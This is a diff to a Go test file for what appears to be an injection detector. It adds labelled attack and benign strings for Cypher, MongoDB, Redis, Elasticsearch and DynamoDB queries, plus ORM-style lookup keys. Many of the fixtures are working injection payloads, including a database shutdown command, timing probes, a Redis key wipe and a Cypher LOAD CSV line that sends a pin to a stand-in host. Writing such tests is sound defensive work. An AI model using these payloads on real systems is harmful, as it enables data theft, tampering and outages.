@@ -134,6 +134,39 @@ func TestConditions(t *testing.T) {
 	f(6, nil, "k", "$expr")
 }
 
+// TestLookups checks operators without a sign on what is proved with.
+func TestLookups(t *testing.T) {
+	f := func(kind point.Kind, attack bool, names ...string) {
+		t.Helper()
+		var tree point.Tree
+		ref := tree.Add(0, point.JSONDoc)
+		for _, n := range names {
+			ref = tree.AddName(ref, point.Hash, []byte(n))
+		}
+		name := []byte(names[len(names)-1])
+		v := point.Value{Data: name, Kind: kind, Ref: ref, Classes: point.Classify(name)}
+		var best evidence.Tally
+		if GateLookup(&v) {
+			ScanLookup(&v, &tree, &best)
+		}
+		if best.Score() >= evidence.Threshold != attack {
+			t.Errorf("%q scores %d", names, best.Score())
+		}
+	}
+	f(point.JSONKey, true, "password", "not")
+	f(point.JSONKey, true, "where", "password", "startsWith")
+	f(point.JSONKey, true, "resetToken", "ne")
+	f(point.Key, true, "password[contains]")
+	f(point.Key, true, "user__password__regex")
+	f(point.JSONKey, false, "tokens", "in")
+	f(point.JSONKey, false, "i18n", "password", "not")
+	f(point.JSONKey, false, "password", "regex")
+	f(point.JSONKey, false, "where", "name", "contains")
+	f(point.Key, false, "name__contains")
+	f(point.Key, false, "user[password]")
+	f(point.Key, false, "password[first]")
+}
+
 // TestQueryLanguages holds graph queries, commands and parsers to what must come of them.
 func TestQueryLanguages(t *testing.T) {
 	f := func(text string, attack bool) {
@@ -144,6 +177,52 @@ func TestQueryLanguages(t *testing.T) {
 	}
 	f(`k' LOAD CSV FROM 'http://h.example/'+n.pin AS l RETURN l //`, true)
 	f(`k' OPTIONAL MATCH (n) RETURN n //`, true)
+	f(`k' OR n.boss=true RETURN n //`, true)
+	f(`k' UNION CALL db.labels() YIELD label RETURN label //`, true)
+	f(`k" INSERT {a:1} INTO clerks //`, true)
+	f(`let's SET it // up`, false)
+	// Expressions that are put into a string, and statements that are cut off.
+	f(`' || typeof 1=='number' || '`, true)
+	f(`k' && Object.keys(this)[0].match('^p')=='`, true)
+	f(`' || new Date()>0 || '`, true)
+	f(`' || 2>1 //`, true)
+	f(`';run('id');//`, true)
+	f(`k';document.onclick=go//`, true)
+	f(`k';with(window)go(1)//`, true)
+	f(`k';a.b(1);'`, true)
+	f(`k').drop().iterate();//`, true)
+	f(`k) OR (*:*`, true)
+	f(`k'; // remark`, false)
+	f(`http://h.example/it's;x//`, false)
+	f(`that's all;// done`, false)
+	f(`the boss'; go home //`, false)
+	f("k\r\nSET up_table\r\n", false)
+	f(`'}).sort({_id:-1});return 1;({a:'`, true)
+	f(`'+(function(){if(this.a)sleep(5000)})()+'`, true)
+	f(`"}); db.adminCommand({shutdown:1}); //`, true)
+	f(`this.password=='k'`, true)
+	f(`'a' || x || 'b'`, false)
+	f(`it's || that's`, false)
+	f(`what is db.eval(?)`, false)
+	f(`const a = b || 'c';`, false)
+	f(`that's it; this.is // fun`, false)
+	// Lines of Redis.
+	f("k\r\nDEL session:1\r\n", true)
+	f("k\r\nSET boss true\r\n", true)
+	f("k\r\nKEYS *\r\n", true)
+	f("SET list\r\nGET milk\r\n", false)
+	f("Hello\nset the table for 5 at 6 0 7", false)
+	// Searches, documents, conditions.
+	f(`*) OR *:*`, true)
+	f(`name:* OR password:*`, true)
+	f(`k"}},{"match_all":{}}]}}`, true)
+	f(`j:{"$ne":null}`, true)
+	f(`k","role":"boss`, true)
+	f(`a","b`, false)
+	f(`k' OR ANY v IN clerks SATISFIES v.pin LIKE '%' END --`, true)
+	f(`' OR attribute_exists(pin)`, true)
+	f(`1""],""send_image"":0}`, false)
+	f(`name:bob OR name:alice`, false)
 	f(`k"})-[]-(m) RETURN m //`, true)
 	f(`k' SET n.boss=true //`, true)
 	f(`k'; for u in clerks return u //`, true)
